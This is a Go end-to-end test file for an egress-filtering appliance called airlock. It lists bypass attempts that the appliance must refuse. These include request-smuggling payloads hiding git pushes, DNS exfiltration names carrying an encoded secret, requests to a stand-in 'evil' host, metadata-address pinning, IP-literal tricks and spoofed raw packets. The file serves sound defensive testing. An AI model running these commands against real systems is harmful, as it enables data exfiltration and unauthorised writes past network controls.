package e2e

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/netip"
	"regexp"
	"strings"

	"airlock/e2e/world"
)

// Class is a class of bypass attempt (issue 8 lists them).
type Class string

// The classes the suite must cover.
const (
	ClassDirectIP   Class = "direct-ip"
	ClassUDP        Class = "udp-quic"
	ClassICMP       Class = "icmp"
	ClassRaw        Class = "raw-socket"
	ClassIPv6       Class = "ipv6"
	ClassSpoof      Class = "spoofed-source"
	ClassForeignDNS Class = "foreign-resolver"
	ClassDoT        Class = "dot"
	ClassDoH        Class = "doh"
	ClassExfil      Class = "dns-exfiltration"
	ClassRebind     Class = "rebinding"
	ClassMismatch   Class = "sni-host-mismatch"
	ClassHostChange Class = "absolute-form-and-inner-host"
	ClassSmuggle    Class = "smuggling"
	ClassGitPush    Class = "git-push"
	ClassNameTrick  Class = "name-tricks"
	ClassIPLiteral  Class = "ip-literal-encoding"
	ClassGateway    Class = "gateway-ports"
	ClassPeer       Class = "other-sandbox"
	ClassControl    Class = "control-api"
)

// Classes lists every class; each must have at least one attempt.
var Classes = []Class{
	ClassDirectIP, ClassUDP, ClassICMP, ClassRaw, ClassIPv6, ClassSpoof, ClassForeignDNS,
	ClassDoT, ClassDoH, ClassExfil, ClassRebind, ClassMismatch, ClassHostChange, ClassSmuggle,
	ClassGitPush, ClassNameTrick, ClassIPLiteral, ClassGateway, ClassPeer, ClassControl,
}

// Attempt is one way out that must be refused and logged.
//
// Every attempt is judged the same way: the command must fail (exit
// non-zero) — unless MaySucceed — and print no world marker; the world
// must record nothing with the attempt's mark (except in WorldMaySee
// roles), no packet at the canary and no packet from a foreign source; and
// the appliance must have logged a denial or a drop for the sandbox, with
// a reason, whose record holds every string in Log.
type Attempt struct {
	Name  string
	Class Class
	// Cmd is run with sh -c in the sandbox after its placeholders are
	// expanded (see Env.Expand).
	Cmd string
	// Raw is an HTTP request (with placeholders; \n becomes \r\n) that
	// Cmd sends with {{raw}}, base64-encoded.
	Raw string
	// Refused says, for people, what refusal looks like.
	Refused string
	// MaySucceed allows exit 0: the appliance may serve the request from
	// the address it checked instead of the one the sandbox named.
	MaySucceed bool
	// WorldMaySee are roles that may legitimately receive the mark (the
	// checked, allowed server when MaySucceed).
	WorldMaySee []world.Role
	// DNSMax is how many world DNS queries with the mark may arrive (a
	// rate guard lets the first few through by design).
	DNSMax int
	// NoPush: the git server must record no receive-pack request.
	NoPush bool
	// NoAPIWrite: the internal API must record no non-GET request.
	NoAPIWrite bool
	// Log are strings one denial or drop event of the sandbox must hold
	// (in its JSON form), after expansion. Empty means {{mark}}.
	Log []string
	// QName is the name a DNS attempt asks (placeholders as in Cmd), for
	// {{qname}} and {{qnamehash}}: dnsd keeps a name an exfiltration guard
	// refused only cut short, with the hash of the whole
	// (docs/events.md, dns.qname_sha256), so its event is found by that.
	QName string
	// LocalOK: the sandbox's own kernel may refuse it (EPERM without
	// CAP_NET_RAW, no IPv6 route) before any packet leaves; then there is
	// nothing on the wire to log, and the exec record is the evidence.
	LocalOK bool
}

// Env holds what the placeholders expand to for one sandbox and one world.
type Env struct {
	// World addresses and names (EnvFor fills them from a running world).
	Canary, Canary6, Evil, NPM, Git, API, Hooks, WorldDNS netip.Addr
	Registry, PyPI, GitHost, APIHost, HooksHost           string

	Gateway netip.Addr // the sandbox's gateway (the appliance's host end)
	Peer    netip.Addr // another sandbox's address
	// Ports of the appliance, on the gateway.
	ProxyPort, ExplicitPort, ControlPort, MetricsPort uint16
	// ControlSocket is the control API's unix socket on the host.
	ControlSocket string
	// Probe is how the sandbox runs probe.py ("python3 /tmp/airlock-probe.py").
	Probe string
}

// EnvFor fills in a world's addresses and names; the caller adds the
// sandbox's side.
func EnvFor(w *world.World) Env {
	return Env{
		Canary: w.Addr(world.RoleCanary), Canary6: w.Addr6(world.RoleCanary), Evil: w.Addr(world.RoleEvil),
		NPM: w.Addr(world.RoleNPM), Git: w.Addr(world.RoleGit), API: w.Addr(world.RoleAPI),
		Hooks: w.Addr(world.RoleHooks), WorldDNS: w.Addr(world.RoleDNS),
		Registry: w.Name(world.RoleNPM), PyPI: w.Name(world.RolePyPI), GitHost: w.Name(world.RoleGit),
		APIHost: w.Name(world.RoleAPI), HooksHost: w.Name(world.RoleHooks),
	}
}

// Expand fills in an attempt's placeholders with mark as its marker. It
// fails when a placeholder is unknown, so a typo never runs a different
// command than the one written.
func (e Env) Expand(a Attempt, mark string) (string, error) {
	c4 := e.Canary.As4()
	pairs := map[string]string{
		"canary":       e.Canary.String(),
		"canary6":      e.Canary6.String(),
		"evil":         e.Evil.String(),
		"npmip":        e.NPM.String(),
		"gitip":        e.Git.String(),
		"apiip":        e.API.String(),
		"hooksip":      e.Hooks.String(),
		"worlddns":     e.WorldDNS.String(),
		"gw":           e.Gateway.String(),
		"peer":         e.Peer.String(),
		"registry":     e.Registry,
		"pypi":         e.PyPI,
		"githost":      e.GitHost,
		"apihost":      e.APIHost,
		"hookshost":    e.HooksHost,
		"repo":         world.GitRepo,
		"proxyport":    fmt.Sprint(e.ProxyPort),
		"explicitport": fmt.Sprint(e.ExplicitPort),
		"controlport":  fmt.Sprint(e.ControlPort),
		"metricsport":  fmt.Sprint(e.MetricsPort),
		"socket":       e.ControlSocket,
		"probe":        e.Probe,
		"mark":         mark,
		"canaryint":    fmt.Sprint(uint32(c4[0])<<24 | uint32(c4[1])<<16 | uint32(c4[2])<<8 | uint32(c4[3])),
		"canaryhex":    fmt.Sprintf("0x%02x%02x%02x%02x", c4[0], c4[1], c4[2], c4[3]),
		"canaryoct":    fmt.Sprintf("0%o.0%o.0%o.0%o", c4[0], c4[1], c4[2], c4[3]),
		"canaryshort":  fmt.Sprintf("%d.%d.%d", c4[0], c4[1], uint16(c4[2])<<8|uint16(c4[3])),
	}
	if a.QName != "" {
		qname, err := expand(a.QName, pairs)
		if err != nil {
			return "", fmt.Errorf("attempt %s: qname: %w", a.Name, err)
		}
		sum := sha256.Sum256([]byte(strings.ToLower(strings.TrimSuffix(qname, ".") + ".")))
		pairs["qname"], pairs["qnamehash"] = qname, hex.EncodeToString(sum[:16])
	}
	if a.Raw != "" {
		raw, err := expand(strings.ReplaceAll(a.Raw, "\n", "\r\n"), pairs)
		if err != nil {
			return "", fmt.Errorf("attempt %s: raw: %w", a.Name, err)
		}
		pairs["raw"] = base64.StdEncoding.EncodeToString([]byte(raw))
	}
	out, err := expand(a.Cmd, pairs)
	if err != nil {
		return "", fmt.Errorf("attempt %s: %w", a.Name, err)
	}
	return out, nil
}

// ExpandLog expands the attempt's Log strings (default: the mark).
func (e Env) ExpandLog(a Attempt, mark string) ([]string, error) {
	if len(a.Log) == 0 {
		return []string{mark}, nil
	}
	out := make([]string, 0, len(a.Log))
	for _, l := range a.Log {
		s, err := e.Expand(Attempt{Name: a.Name, Cmd: l, QName: a.QName}, mark)
		if err != nil {
			return nil, err
		}
		out = append(out, s)
	}
	return out, nil
}

var placeholderRe = regexp.MustCompile(`\{\{([a-z0-9]+)\}\}`)

func expand(s string, pairs map[string]string) (string, error) {
	var missing []string
	out := placeholderRe.ReplaceAllStringFunc(s, func(m string) string {
		k := m[2 : len(m)-2]
		v, ok := pairs[k]
		if !ok {
			missing = append(missing, k)
		}
		return v
	})
	if len(missing) > 0 {
		return "", fmt.Errorf("unknown placeholders %v", missing)
	}
	if strings.Contains(out, "{{") {
		return "", fmt.Errorf("malformed placeholder in %q", s)
	}
	return out, nil
}

// curl is the common prefix of curl attempts: quiet, bounded, failing on
// HTTP errors, and never using a proxy from the environment unless told.
const curl = "curl -sS -f -m 8 --noproxy '*' "

// Attempts is the bypass suite.
var Attempts = []Attempt{
	// Direct IP: TCP to an address no name led to. The path steers it to
	// the proxy, which has no allowed name for it.
	{Name: "direct-ip-http", Class: ClassDirectIP, Cmd: curl + "http://{{canary}}/{{mark}}",
		Refused: "the proxy refuses the connection or answers 403; the canary sees nothing", Log: []string{"{{canary}}:80"}},
	{Name: "direct-ip-https", Class: ClassDirectIP, Cmd: curl + "-k https://{{canary}}/{{mark}}",
		Refused: "no TLS session with the canary; 403 or reset", Log: []string{"{{canary}}:443"}},
	{Name: "direct-ip-ssh-port", Class: ClassDirectIP, Cmd: "{{probe}} tcp {{canary}} 22 'SSH-2.0-{{mark}}\n'",
		Refused: "the connection is closed without an answer from the canary", Log: []string{"{{canary}}:22"}},
	{Name: "direct-ip-postgres-port", Class: ClassDirectIP, Cmd: "{{probe}} tcp {{canary}} 5432",
		Refused: "no answer from the canary", Log: []string{"{{canary}}:5432"}},
	{Name: "direct-ip-evil-https-insecure", Class: ClassDirectIP, Cmd: curl + "-k https://{{evil}}/{{mark}}",
		Refused: "403 or reset; the evil server sees nothing", Log: []string{"{{evil}}:443"}},
	{Name: "direct-ip-evil-alt-port", Class: ClassDirectIP, Cmd: curl + "http://{{evil}}:8080/{{mark}}",
		Refused: "403 or reset", Log: []string{"{{evil}}:8080"}},

	// UDP and QUIC: only UDP/53 has a path (to dnsd).
	{Name: "udp-high-port", Class: ClassUDP, Cmd: "{{probe}} udp {{canary}} 9999 {{mark}}",
		Refused: "dropped in the kernel: no answer", Log: []string{"{{canary}}", "9999"}},
	{Name: "udp-ntp", Class: ClassUDP, Cmd: "{{probe}} udp {{canary}} 123 {{mark}}",
		Refused: "dropped: no answer", Log: []string{"{{canary}}", "123"}},
	{Name: "quic-to-canary", Class: ClassUDP, Cmd: "{{probe}} quic {{canary}} 443",
		Refused: "dropped: HTTP/3 has no path", Log: []string{"{{canary}}", "443"}},
	{Name: "quic-to-allowed-registry", Class: ClassUDP, Cmd: "{{probe}} quic {{npmip}} 443",
		Refused: "dropped even toward an allowed server: only TCP goes through the proxy", Log: []string{"{{npmip}}", "443"}},

	// ICMP.
	{Name: "icmp-echo-ping-socket", Class: ClassICMP, Cmd: "{{probe}} icmp {{canary}}",
		Refused: "no echo reply; the canary sees no packet", Log: []string{"icmp", "{{canary}}"}, LocalOK: true},
	{Name: "icmp-echo-to-allowed-server", Class: ClassICMP, Cmd: "{{probe}} icmp {{npmip}}",
		Refused: "no echo reply from an allowed server either", Log: []string{"icmp", "{{npmip}}"}, LocalOK: true},

	// Raw sockets (need CAP_NET_RAW; without it the kernel says EPERM).
	{Name: "raw-icmp", Class: ClassRaw, Cmd: "{{probe}} rawicmp {{canary}}",
		Refused: "EPERM without CAP_NET_RAW; dropped with it", Log: []string{"icmp", "{{canary}}"}, LocalOK: true},
	{Name: "raw-tcp-syn", Class: ClassRaw, Cmd: "{{probe}} rawsyn $(hostname -I | cut -d' ' -f1) {{canary}} 8443",
		Refused: "a hand-made SYN reaches only the proxy (or nothing): never the canary", Log: []string{"{{canary}}"}, LocalOK: true},
	{Name: "raw-udp-hdrincl", Class: ClassRaw, Cmd: "{{probe}} rawudp $(hostname -I | cut -d' ' -f1) {{canary}} 4444",
		Refused: "dropped in the kernel", Log: []string{"{{canary}}", "4444"}, LocalOK: true},
	{Name: "packet-socket-ipv4-frame", Class: ClassRaw, Cmd: "{{probe}} packet {{canary}} 5555",
		Refused: "an Ethernet frame written past the IP stack is dropped on the host end", Log: []string{"{{canary}}", "5555"}, LocalOK: true},

	// IPv6: the sandbox has no IPv6 path.
	{Name: "ipv6-tcp-to-canary", Class: ClassIPv6, Cmd: "{{probe}} tcp6 {{canary6}} 80",
		Refused: "no IPv6 route (or dropped): the canary's IPv6 address sees nothing", Log: []string{"{{canary6}}"}, LocalOK: true},
	{Name: "ipv6-link-local-multicast", Class: ClassIPv6, Cmd: "{{probe}} udp6 ff02::1%eth0 9999 {{mark}}",
		Refused: "IPv6 is off in the sandbox or dropped on the host end", Log: []string{"ff02::1"}, LocalOK: true},
	{Name: "ipv6-enable-then-send", Class: ClassIPv6,
		Cmd: "{ mount -o remount,rw /proc/sys 2>/dev/null; true; } && echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6 && " +
			"sleep 3 && {{probe}} udp6 ff02::1%eth0 9999 {{mark}}",
		Refused: "turning IPv6 back on needs a writable /proc/sys and CAP_NET_ADMIN; with them the packets are dropped on the host end",
		Log:     []string{"ff02::1"}, LocalOK: true},
	{Name: "ipv6-frame-by-packet-socket", Class: ClassIPv6, Cmd: "{{probe}} packet6 {{canary6}} 9999",
		Refused: "a hand-made IPv6 frame is dropped on the host end", Log: []string{"{{canary6}}"}, LocalOK: true},

	// Spoofed sources: the kernel path checks the source address.
	{Name: "spoof-peer-source-dns", Class: ClassSpoof, Cmd: "{{probe}} rawudp {{peer}} {{worlddns}} 53",
		Refused: "a query claiming another sandbox's address is dropped before dnsd", Log: []string{"{{peer}}"}, LocalOK: true},
	{Name: "spoof-gateway-source-syn", Class: ClassSpoof, Cmd: "{{probe}} rawsyn {{gw}} {{canary}} 80",
		Refused: "a SYN claiming the gateway's address is dropped", Log: []string{"{{gw}}"}, LocalOK: true},
	{Name: "spoof-transparent-bind", Class: ClassSpoof, Cmd: "{{probe}} transparent {{peer}} {{canary}} 80",
		Refused: "binding a foreign source needs CAP_NET_ADMIN; with it the packet is dropped", Log: []string{"{{peer}}"}, LocalOK: true},

	// DNS to resolvers the sandbox was not given: answered by dnsd or dropped.
	{Name: "dns-udp-to-world-resolver", Class: ClassForeignDNS, Cmd: "{{probe}} dns udp {{worlddns}} 53 {{mark}}.exfil.evil.test TXT",
		Refused: "dnsd answers instead (NXDOMAIN); the world's resolver never sees the query"},
	{Name: "dns-tcp-to-world-resolver", Class: ClassForeignDNS, Cmd: "{{probe}} dns tcp {{worlddns}} 53 {{mark}}.exfil.evil.test A",
		Refused: "dnsd answers instead over TCP; the world's resolver never sees it"},
	{Name: "dns-udp-to-canary", Class: ClassForeignDNS, Cmd: "{{probe}} dns udp {{canary}} 53 {{mark}}.evil.test A",
		Refused: "steered to dnsd, which refuses the name; the canary sees nothing"},
	{Name: "dns-udp-odd-port", Class: ClassForeignDNS, Cmd: "{{probe}} dns udp {{worlddns}} 5353 {{mark}}.evil.test A",
		Refused: "UDP to a port other than 53 is dropped", Log: []string{"{{worlddns}}", "5353"}},

	// DNS over TLS and over HTTPS to servers the policy does not list.
	{Name: "dot-to-evil", Class: ClassDoT, Cmd: "{{probe}} tls {{evil}} 853 dot.evil.test dot.evil.test /{{mark}}",
		Refused: "the proxy refuses SNI dot.evil.test", Log: []string{"{{evil}}:853"}},
	{Name: "dot-to-canary-no-sni", Class: ClassDoT, Cmd: "{{probe}} tls {{canary}} 853 '' {{canary}} /{{mark}}",
		Refused: "no allowed name: refused", Log: []string{"{{canary}}:853"}},
	{Name: "doh-by-name", Class: ClassDoH, Cmd: curl + "-H 'accept: application/dns-message' 'https://doh.evil.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB&m={{mark}}'",
		Refused: "the name does not resolve (NXDOMAIN from dnsd)", Log: []string{"doh.evil.test"}},
	{Name: "doh-pinned-address", Class: ClassDoH, Cmd: curl + "--resolve doh.evil.test:443:{{evil}} 'https://doh.evil.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB&m={{mark}}'",
		Refused: "the proxy refuses SNI doh.evil.test", Log: []string{"doh.evil.test"}},

	// DNS exfiltration through names.
	{Name: "exfil-long-label-allowed-parent", Class: ClassExfil,
		QName:   "{{mark}}6d792d7365637265742d746f6b656e2d76616c75652d31.pkg.example.test",
		Cmd:     "{{probe}} dns udp resolv 53 {{qname}} A",
		Refused: "a label over dns.max_label is refused by dnsd and never forwarded, and logged only cut short with its hash",
		Log:     []string{"{{qnamehash}}", `"qname_truncated":true`, "dns.max_label"}},
	{Name: "exfil-long-name-allowed-parent", Class: ClassExfil,
		QName:   "{{mark}}.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.ccccccccccccccccccccccccccccccccccc.ddddddddddddddddddddddddddddddd.pkg.example.test",
		Cmd:     "{{probe}} dns udp resolv 53 {{qname}} A",
		Refused: "a name over dns.max_name is refused and never forwarded, and logged only cut short with its hash",
		Log:     []string{"{{qnamehash}}", `"qname_truncated":true`, "dns.max_name"}},
	{Name: "exfil-txt-denied-zone", Class: ClassExfil, Cmd: "{{probe}} dns udp resolv 53 {{mark}}.exfil.evil.test TXT",
		Refused: "the zone is not allowed: NXDOMAIN without forwarding"},
	{Name: "exfil-txt-allowed-name", Class: ClassExfil, Cmd: "{{probe}} dns udp resolv 53 {{mark}}.pkg.example.test TXT",
		Refused: "TXT is not an allowed query type"},

	// Rebinding: allowed names whose answers are not public.
	{Name: "rebind-loopback", Class: ClassRebind, Cmd: curl + "http://rebind-loopback.pkg.example.test:9464/{{mark}}",
		Refused: "the rebinding guard strips 127.0.0.1: the name has no usable address", Log: []string{"rebind-loopback.pkg.example.test", "127.0.0.1"}},
	{Name: "rebind-private", Class: ClassRebind, Cmd: curl + "https://rebind-private.pkg.example.test/{{mark}}",
		Refused: "10.20.30.40 is stripped", Log: []string{"rebind-private.pkg.example.test", "10.20.30.40"}},
	{Name: "rebind-metadata", Class: ClassRebind, Cmd: curl + "http://rebind-metadata.pkg.example.test/latest/meta-data/{{mark}}",
		Refused: "169.254.169.254 is stripped", Log: []string{"rebind-metadata.pkg.example.test", "169.254.169.254"}},
	{Name: "rebind-mapped-v6", Class: ClassRebind, Cmd: "{{probe}} getaddr rebind-mapped.pkg.example.test 443",
		Refused: "::ffff:127.0.0.1 is stripped (and there is no IPv6 path)", Log: []string{"rebind-mapped.pkg.example.test", "::ffff:127.0.0.1"}},
	{Name: "pinned-metadata-address", Class: ClassRebind, Cmd: curl + "--resolve {{registry}}:80:169.254.169.254 http://{{registry}}/latest/meta-data/{{mark}}",
		Refused: "an allowed name at the metadata address: deny.cidrs refuses it", Log: []string{"169.254.169.254"}},

	// SNI, Host and :authority that disagree with each other or the address.
	{Name: "allowed-sni-at-evil-address", Class: ClassMismatch,
		Cmd:     curl + "--resolve {{registry}}:443:{{evil}} https://{{registry}}/airlock-demo?m={{mark}}",
		Refused: "the evil server sees nothing: the proxy refuses the mismatch or dials the registry's own address", MaySucceed: true,
		WorldMaySee: []world.Role{world.RoleNPM}, Log: []string{"{{evil}}:443"}},
	{Name: "evil-sni-at-allowed-address", Class: ClassMismatch, Cmd: "{{probe}} tls {{npmip}} 443 evil.test {{registry}} /airlock-demo?m={{mark}}",
		Refused: "SNI evil.test is refused although the address and Host are allowed", Log: []string{"evil.test"}},
	{Name: "allowed-sni-evil-host-header", Class: ClassMismatch, Cmd: curl + "-H 'Host: evil.test' https://{{registry}}/{{mark}}",
		Refused: "the request is re-decided on its Host: 403", Log: []string{"evil.test"}},
	{Name: "allowed-sni-evil-authority-h2", Class: ClassMismatch, Cmd: curl + "--http2 -H 'Host: evil.test' https://{{registry}}/{{mark}}",
		Refused: "an HTTP/2 :authority of evil.test is refused", Log: []string{"evil.test"}},
	{Name: "no-sni-evil-address-allowed-host", Class: ClassMismatch, Cmd: "{{probe}} tls {{evil}} 443 '' {{registry}} /airlock-demo?m={{mark}}",
		Refused: "no SNI, an allowed Host, the evil address: never reaches evil", Log: []string{"{{evil}}:443"}},

	// Absolute-form requests and a host that changes inside a connection.
	{Name: "absolute-form-plain-http", Class: ClassHostChange, Cmd: "{{probe}} raw {{npmip}} 80 0 '' {{raw}}",
		Raw:     "GET http://evil.test/{{mark}} HTTP/1.1\nHost: evil.test\nConnection: close\n\n",
		Refused: "a request for evil.test is refused whatever address it was sent to", Log: []string{"evil.test"}},
	{Name: "absolute-form-inside-tls", Class: ClassHostChange, Cmd: "{{probe}} raw {{npmip}} 443 1 {{registry}} {{raw}}",
		Raw:     "GET https://evil.test/{{mark}} HTTP/1.1\nHost: {{registry}}\nConnection: close\n\n",
		Refused: "an absolute URI naming another host inside the tunnel is refused", Log: []string{"evil.test"}},
	{Name: "keepalive-second-request-other-host", Class: ClassHostChange,
		Cmd:     "{{probe}} keepalive {{npmip}} 443 {{registry}} {{registry}} /airlock-demo evil.test /{{mark}}",
		Refused: "the second request on the kept-alive connection is re-decided and refused", Log: []string{"evil.test"}},
	{Name: "explicit-proxy-absolute-form", Class: ClassHostChange, Cmd: "curl -sS -f -m 8 --proxy http://{{gw}}:{{explicitport}} http://evil.test/{{mark}}",
		Refused: "the explicit proxy applies the same policy: 403", Log: []string{"evil.test"}},
	{Name: "explicit-proxy-connect", Class: ClassHostChange, Cmd: "curl -sS -f -m 8 -k --proxy http://{{gw}}:{{explicitport}} https://evil.test/{{mark}}",
		Refused: "CONNECT evil.test:443 is refused", Log: []string{"evil.test"}},

	// Request smuggling framings against allowed hosts: the smuggled request
	// would be a git push or an API write.
	{Name: "smuggle-cl-te-git-push", Class: ClassSmuggle, Cmd: "{{probe}} raw {{gitip}} 443 1 {{githost}} {{raw}}", NoPush: true,
		Raw: "POST /acme/demo.git/git-upload-pack?m={{mark}} HTTP/1.1\nHost: {{githost}}\nContent-Length: 4\nTransfer-Encoding: chunked\n\n" +
			"0\n\nPOST /acme/demo.git/git-receive-pack HTTP/1.1\nHost: {{githost}}\nContent-Length: 0\n\n",
		Refused: "a request with both Content-Length and Transfer-Encoding is refused; no receive-pack reaches the server", Log: []string{"proxy.framing"}},
	{Name: "smuggle-te-obfuscated-api-write", Class: ClassSmuggle, Cmd: "{{probe}} raw {{apiip}} 443 1 {{apihost}} {{raw}}", NoAPIWrite: true,
		Raw: "GET /v1/items/1?m={{mark}} HTTP/1.1\nHost: {{apihost}}\nTransfer-Encoding: chunked\nTransfer-Encoding: identity\nContent-Length: 60\n\n" +
			"0\n\nPOST /v1/items HTTP/1.1\nHost: {{apihost}}\nContent-Length: 0\n\n",
		Refused: "an ambiguous framing is refused; no POST reaches the API", Log: []string{"proxy.framing"}},
	{Name: "smuggle-te-space-before-colon", Class: ClassSmuggle, Cmd: "{{probe}} raw {{apiip}} 443 1 {{apihost}} {{raw}}", NoAPIWrite: true,
		Raw: "GET /v1/items/2?m={{mark}} HTTP/1.1\nHost: {{apihost}}\nTransfer-Encoding : chunked\n\n" +
			"0\n\nPOST /v1/items HTTP/1.1\nHost: {{apihost}}\nContent-Length: 0\n\n",
		Refused: "a malformed header is a 400; no POST reaches the API", Log: []string{"proxy.framing"}},
	{Name: "smuggle-bare-lf-pipeline", Class: ClassSmuggle, Cmd: "{{probe}} raw {{gitip}} 443 1 {{githost}} {{raw}}", NoPush: true,
		Raw: "GET /acme/demo.git/info/refs?service=git-upload-pack&m={{mark}} HTTP/1.1\nHost: {{githost}}\n\n" +
			"GET /acme/demo.git/info/refs?service=git-receive-pack&m={{mark}} HTTP/1.1\nHost: {{githost}}\nConnection: close\n\n",
		Refused:     "the pipelined second request (push discovery) is decided on its own and refused; the first (a fetch) is allowed",
		WorldMaySee: []world.Role{world.RoleGit}, Log: []string{"categories.git.push"}},

	// git push in other spellings.
	{Name: "git-push-cli", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd: "cd /tmp && rm -rf push-{{mark}} && git clone -q https://{{githost}}/{{repo}} push-{{mark}} && cd push-{{mark}} && " +
			"git -c user.name=agent -c user.email=agent@example.test commit -q --allow-empty -m {{mark}} && git push -q origin HEAD:main",
		Refused: "git push fails with the proxy's message naming categories.git.push; the server receives no push"},
	{Name: "git-push-discovery-curl", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd:     curl + "'https://{{githost}}/{{repo}}/info/refs?service=git-receive-pack&m={{mark}}'",
		Refused: "403 naming categories.git.push"},
	{Name: "git-push-post-curl", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd:     curl + "-X POST -H 'Content-Type: application/x-git-receive-pack-request' --data-binary @/dev/null 'https://{{githost}}/{{repo}}/git-receive-pack?m={{mark}}'",
		Refused: "403"},
	{Name: "git-push-percent-encoded", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd:     curl + "'https://{{githost}}/{{repo}}/info/refs?service=git-%72eceive-pack&m={{mark}}'",
		Refused: "the query is decoded before it is decided: 403"},
	{Name: "git-push-upper-case-path", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd:     curl + "-X POST --data-binary @/dev/null 'https://{{githost}}/{{repo}}/GIT-RECEIVE-PACK?m={{mark}}'",
		Refused: "case does not hide receive-pack: 403"},
	{Name: "git-push-dot-segments", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd:     curl + "--path-as-is -X POST --data-binary @/dev/null 'https://{{githost}}/acme/x/../demo.git/./git-receive-pack?m={{mark}}'",
		Refused: "the path is normalized before it is decided: 403"},
	{Name: "git-push-duplicate-service", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
		Cmd:     curl + "'https://{{githost}}/{{repo}}/info/refs?service=git-upload-pack&service=git-receive-pack&m={{mark}}'",
		Refused: "any service=git-receive-pack counts: 403"},

	// Name tricks: suffixes, case, trailing dots, IDN.
	{Name: "suffix-allowed-name-under-evil", Class: ClassNameTrick, Cmd: curl + "https://{{registry}}.evil.test/{{mark}}",
		Refused: "registry.example.test.evil.test is not registry.example.test: NXDOMAIN", Log: []string{"evil.test"}},
	{Name: "prefix-lookalike", Class: ClassNameTrick, Cmd: curl + "https://evil{{registry}}/{{mark}}",
		Refused: "evilregistry.example.test is not allowed", Log: []string{"evilregistry"}},
	{Name: "deny-listed-trailing-dot", Class: ClassNameTrick, Cmd: curl + "https://bad.pkg.example.test./{{mark}}",
		Refused: "a trailing dot does not escape deny.hosts", Log: []string{"bad.pkg.example.test"}},
	{Name: "deny-listed-upper-case", Class: ClassNameTrick, Cmd: curl + "https://BAD.PKG.Example.Test/{{mark}}",
		Refused: "case does not escape deny.hosts", Log: []string{"bad.pkg.example.test"}},
	{Name: "deny-listed-sni-with-allowed-address", Class: ClassNameTrick, Cmd: "{{probe}} tls {{npmip}} 443 BAD.pkg.example.test. bad.pkg.example.test /{{mark}}",
		Refused: "the SNI is normalized before deny.hosts is applied", Log: []string{"bad.pkg.example.test"}},
	{Name: "idn-homograph-punycode", Class: ClassNameTrick, Cmd: curl + "https://xn--rgistry-bya.example.test/{{mark}}",
		Refused: "the punycode lookalike is a different name: NXDOMAIN", Log: []string{"xn--rgistry-bya"}},
	{Name: "idn-fullwidth-dots", Class: ClassNameTrick, Cmd: "{{probe}} getaddr 'evil\u3002test' 443",
		Refused: "ideographic full stops do not make evil.test reachable", LocalOK: true, Log: []string{"evil"}},

	// IP literal encodings of the canary's address.
	{Name: "ip-decimal", Class: ClassIPLiteral, Cmd: curl + "http://{{canaryint}}:8080/{{mark}}",
		Refused: "it is still the canary's address: refused", Log: []string{"{{canary}}:8080"}},
	{Name: "ip-hex", Class: ClassIPLiteral, Cmd: curl + "http://{{canaryhex}}:1080/{{mark}}",
		Refused: "refused", Log: []string{"{{canary}}:1080"}},
	{Name: "ip-octal", Class: ClassIPLiteral, Cmd: curl + "http://{{canaryoct}}:25/{{mark}}",
		Refused: "refused", Log: []string{"{{canary}}:25"}},
	{Name: "ip-short-form", Class: ClassIPLiteral, Cmd: curl + "http://{{canaryshort}}:3128/{{mark}}",
		Refused: "refused", Log: []string{"{{canary}}:3128"}},
	{Name: "ip-v4-mapped-v6-literal", Class: ClassIPLiteral, Cmd: curl + "'http://[::ffff:{{canary}}]/{{mark}}'",
		Refused: "no IPv6 path; or refused as the canary", LocalOK: true, Log: []string{"{{canary}}"}},

	// The gateway's other ports.
	{Name: "gateway-ssh", Class: ClassGateway, Cmd: "{{probe}} tcp {{gw}} 22 'SSH-2.0-{{mark}}\n'",
		Refused: "steered to the proxy, which refuses its own host", Log: []string{"{{gw}}:22"}},
	{Name: "gateway-metrics-port", Class: ClassGateway, Cmd: curl + "http://{{gw}}:{{metricsport}}/metrics?m={{mark}}",
		Refused: "the metrics endpoint is on the host's loopback, not the gateway", Log: []string{"{{gw}}:{{metricsport}}"}},
	{Name: "gateway-transparent-port-loop", Class: ClassGateway, Cmd: curl + "http://{{gw}}:{{proxyport}}/{{mark}}",
		Refused: "a connection to the proxy's own listener is a loop: refused", Log: []string{"{{gw}}:{{proxyport}}"}},
	{Name: "gateway-udp-other-port", Class: ClassGateway, Cmd: "{{probe}} udp {{gw}} 5353 {{mark}}",
		Refused: "UDP other than 53 is dropped", Log: []string{"{{gw}}", "5353"}},

	// Another sandbox's address.
	{Name: "peer-tcp", Class: ClassPeer, Cmd: "{{probe}} tcp {{peer}} 8000",
		Refused: "another sandbox is not a destination: refused by the proxy", Log: []string{"{{peer}}:8000"}},
	{Name: "peer-udp", Class: ClassPeer, Cmd: "{{probe}} udp {{peer}} 9999 {{mark}}",
		Refused: "dropped", Log: []string{"{{peer}}"}},
	{Name: "peer-icmp", Class: ClassPeer, Cmd: "{{probe}} icmp {{peer}}",
		Refused: "dropped", Log: []string{"{{peer}}"}, LocalOK: true},

	// The appliance's control API.
	{Name: "control-unix-socket", Class: ClassControl, Cmd: "curl -sS -f -m 5 --unix-socket {{socket}} http://airlock/v1/sandboxes",
		Refused: "the socket does not exist in the sandbox", LocalOK: true},
	{Name: "control-tcp-on-gateway", Class: ClassControl, Cmd: curl + "http://{{gw}}:{{controlport}}/v1/sandboxes?m={{mark}}",
		Refused: "the control port is not reachable from a sandbox: refused", Log: []string{"{{gw}}:{{controlport}}"}},
	{Name: "control-via-explicit-proxy-loopback", Class: ClassControl,
		Cmd:     "env -u no_proxy -u NO_PROXY curl -sS -f -m 8 --proxy http://{{gw}}:{{explicitport}} http://127.0.0.1:{{controlport}}/v1/sandboxes?m={{mark}}",
		Refused: "the proxy never dials loopback", Log: []string{"127.0.0.1"}},

	// Last: the names_per_parent guard it trips refuses every further
